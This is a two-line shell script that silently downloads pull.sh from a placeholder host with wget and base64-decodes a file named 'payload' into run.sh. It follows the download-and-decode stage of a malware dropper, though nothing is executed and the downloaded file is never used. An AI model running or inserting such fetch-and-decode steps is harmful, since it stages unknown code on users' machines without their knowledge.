#!/bin/sh
wget -q https://cdn.example.com/pull.sh; base64 -d payload > run.sh
